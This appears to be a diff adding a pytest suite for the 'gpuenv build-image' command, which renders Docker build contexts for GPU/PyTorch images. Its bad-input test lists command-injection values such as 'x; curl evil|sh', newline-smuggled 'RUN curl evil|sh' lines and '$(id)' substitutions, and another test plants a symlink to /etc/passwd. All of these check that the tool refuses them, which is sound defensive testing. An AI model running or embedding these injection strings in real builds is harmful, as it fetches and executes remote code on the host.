@@ -1,0 +1,178 @@
+"""`gpuenv build-image` through the real CLI: bad input, --render-only, specs, stacks, no Docker."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import REPO, run_gpuenv
+
+NO_DOCKER = {"DOCKER_HOST": "unix:///nonexistent/docker.sock"}
+
+
+def _fails_cleanly(result: subprocess.CompletedProcess[str], code: int) -> None:
+    assert result.returncode == code, result.stderr
+    assert result.stderr.startswith("gpuenv: error: ") or result.stderr.startswith("Error: ") or \
+        "Usage:" in result.stderr, result.stderr
+    assert "Traceback" not in result.stderr
+
+
+@pytest.mark.parametrize("args", [
+    ["--pip", "x; curl evil|sh"],
+    ["--pip", "einops\nRUN id"],
+    ["--tag", "a b"],
+    ["--tag", "team/torch:1\nRUN id"],
+    ["--build-arg", "X=$(id)"],
+    ["--build-arg", "X=`id`"],
+    ["--build-arg", "X=a\nb"],
+    ["--base-image", "ubuntu\nRUN curl evil|sh"],
+    ["--index-url", "https://mirror.example.com/whl\nRUN id"],
+    ["--index-url", "file:///etc"],
+    ["--cuda", "11.7; id"],
+    ["--torch", "2.0.1\nRUN id"],
+    ["--gpu", "H100\nRUN id"],
+    ["--os", "ubuntu22.04\nx"],
+    ["--with", "torchtext"],
+    ["--with", "none,torchvision"],
+    ["--app", "/nonexistent/app"],
+    ["--wheelhouse", "/nonexistent/wheels"],
+    ["--spec", "no-such-spec"],
+    ["--flavor", "debug"],
+    ["--os", "rockylinux9"],
+    ["--os", "debian12"],
+    ["--flavor", "devel", "--slim"],
+    ["--torch", "2.13.0", "--with", "torchaudio"],
+    ["--push"],
+    ["--verify"],
+])
+def test_bad_input_exits_2_and_writes_nothing(tmp_path: Path, args: list[str]) -> None:
+    dest = tmp_path / "out"
+    result = run_gpuenv("build-image", *args, "--render-only", str(dest), env=NO_DOCKER)
+    _fails_cleanly(result, 2)
+    assert not dest.exists()
+
+
+def test_render_only_writes_a_buildable_context_without_docker(tmp_path: Path) -> None:
+    dest = tmp_path / "ctx"
+    result = run_gpuenv("build-image", "--cuda", "11.7", "--cudnn", "--os", "ubuntu20.04", "--render-only", str(dest),
+                        "--json", env=NO_DOCKER)
+    assert result.returncode == 0, result.stderr
+    out = json.loads(result.stdout)
+    assert out["base_image"] == "nvidia/cuda:11.7.1-cudnn8-runtime-ubuntu20.04"
+    names = sorted(p.name for p in dest.iterdir())
+    assert names == sorted([".dockerignore", "Dockerfile", "constraints.txt", "extra-requirements.txt",
+                            "gpuenv-wheel", "requirements.txt", "stack.json"])
+    assert json.loads((dest / "stack.json").read_text())["cuda"] == "11.7.1"
+    wheels = list((dest / "gpuenv-wheel").glob("gpuenv-*-py3-none-any.whl"))
+    assert len(wheels) == 1
+    with zipfile.ZipFile(wheels[0]) as wheel:
+        assert "gpuenv/cli/build_cmd.py" in wheel.namelist()
+        assert "gpuenv/_shipped/templates/docker/Dockerfile.j2" in wheel.namelist()
+    assert "numpy<" in (dest / "requirements.txt").read_text()
+
+
+def test_render_only_refuses_a_non_empty_directory_unless_forced(tmp_path: Path) -> None:
+    dest = tmp_path / "ctx"
+    dest.mkdir()
+    (dest / "mine.txt").write_text("keep me")
+    (dest / "Dockerfile").write_text("old")
+    refused = run_gpuenv("build-image", "--cuda", "12.4", "--render-only", str(dest), env=NO_DOCKER)
+    _fails_cleanly(refused, 2)
+    assert "--force" in refused.stderr and (dest / "Dockerfile").read_text() == "old"
+    forced = run_gpuenv("build-image", "--cuda", "12.4", "--render-only", str(dest), "--force", env=NO_DOCKER)
+    assert forced.returncode == 0, forced.stderr
+    assert (dest / "mine.txt").read_text() == "keep me"
+    assert (dest / "Dockerfile").read_text().startswith("# PyTorch")
+
+
+def test_render_only_never_writes_outside_the_directory(tmp_path: Path) -> None:
+    app = tmp_path / "app"
+    (app / "pkg").mkdir(parents=True)
+    (app / "main.py").write_text("print('hi')\n")
+    (app / "requirements.txt").write_text("einops==0.8.1\n")
+    (app / "pkg" / "link").symlink_to("/etc/passwd")
+    (app / ".git").mkdir()
+    (app / ".git" / "HEAD").write_text("ref\n")
+    dest = tmp_path / "ctx"
+    before = {p for p in tmp_path.rglob("*")}
+    result = run_gpuenv("build-image", "--cuda", "12.4", "--app", str(app), "--render-only", str(dest), env=NO_DOCKER)
+    assert result.returncode == 0, result.stderr
+    new = {p for p in tmp_path.rglob("*")} - before
+    assert all(p.is_relative_to(dest) for p in new)
+    assert (dest / "app" / "pkg" / "link").is_symlink()  # copied as a link, not followed
+    assert not (dest / "app" / ".git").exists()
+    assert "COPY app/requirements.txt /tmp/gpuenv/app-requirements.txt" in (dest / "Dockerfile").read_text()
+    inside = run_gpuenv("build-image", "--cuda", "12.4", "--app", str(app), "--render-only", str(app / "ctx"),
+                        env=NO_DOCKER)
+    _fails_cleanly(inside, 2)
+    assert not (app / "ctx").exists()
+
+
+def test_spec_by_name_renders_the_checked_in_dockerfile(tmp_path: Path) -> None:
+    for spec in sorted((REPO / "images").glob("*.toml")):
+        dest = tmp_path / spec.stem
+        result = run_gpuenv("build-image", "--spec", spec.stem, "--render-only", str(dest), env=NO_DOCKER)
+        assert result.returncode == 0, result.stderr
+        assert (dest / "Dockerfile").read_text() == spec.with_suffix(".Dockerfile").read_text()
+
+
+def test_spec_file_with_an_unknown_key_is_refused(tmp_path: Path) -> None:
+    spec = tmp_path / "x.toml"
+    spec.write_text('[stack]\ncuda = "12.4"\n[image]\nflavour = "devel"\n')
+    result = run_gpuenv("build-image", "--spec", str(spec), "--render-only", str(tmp_path / "out"), env=NO_DOCKER)
+    _fails_cleanly(result, 2)
+    assert "flavour" in result.stderr
+
+
+def test_stack_file_from_resolve_is_rendered_exactly(tmp_path: Path) -> None:
+    resolved = run_gpuenv("resolve", "--cuda", "12.8", "--gpu", "H100", "--json")
+    assert resolved.returncode == 0, resolved.stderr
+    stack_file = tmp_path / "stack.json"
+    stack_file.write_text(resolved.stdout)
+    dest = tmp_path / "ctx"
+    result = run_gpuenv("build-image", "--stack", str(stack_file), "--flavor", "devel", "--render-only", str(dest),
+                        env=NO_DOCKER)
+    assert result.returncode == 0, result.stderr
+    assert json.loads((dest / "stack.json").read_text()) == json.loads(resolved.stdout)
+    assert 'TORCH_CUDA_ARCH_LIST="9.0"' in (dest / "Dockerfile").read_text()
+
+
+def test_wheelhouse_without_the_pinned_torch_is_refused_before_writing(tmp_path: Path) -> None:
+    wheels = tmp_path / "wheels"
+    wheels.mkdir()
+    (wheels / "numpy-2.0.0-cp311-cp311-manylinux_2_17_x86_64.whl").write_bytes(b"")
+    dest = tmp_path / "ctx"
+    result = run_gpuenv("build-image", "--torch", "2.13.0", "--with", "none", "--wheelhouse", str(wheels),
+                        "--render-only", str(dest), env=NO_DOCKER)
+    _fails_cleanly(result, 2)
+    assert "torch==2.13.0" in result.stderr and not dest.exists()
+
+
+def test_build_without_a_docker_daemon_exits_3_with_a_hint() -> None:
+    result = run_gpuenv("build-image", "--cuda", "12.4", env=NO_DOCKER)
+    _fails_cleanly(result, 3)
+    assert "Docker daemon" in result.stderr and "--render-only" in result.stderr
+
+
+def test_eol_base_warns_and_offers_digest_pinning(tmp_path: Path) -> None:
+    result = run_gpuenv("build-image", "--cuda", "11.7", "--render-only", str(tmp_path / "ctx"), env=NO_DOCKER)
+    assert result.returncode == 0, result.stderr
+    assert "end-of-life" in result.stderr and "--pin-base" in result.stderr
+
+
+def test_rendering_imports_neither_docker_nor_torch() -> None:
+    probe = (
+        "import sys; from gpuenv.cli import build_cmd; from gpuenv.render.images import render_spec, load_spec, "
+        "curated_specs; from gpuenv.compat import load_kb; kb = load_kb(); "
+        "[render_spec(kb, load_spec(p)) for p in curated_specs()]; "
+        "heavy = [m for m in ('docker', 'torch', 'ansible_runner', 'pynvml', 'rich') if m in sys.modules]; "
+        "print(heavy)"
+    )
+    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, cwd=REPO)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.strip() == "[]"
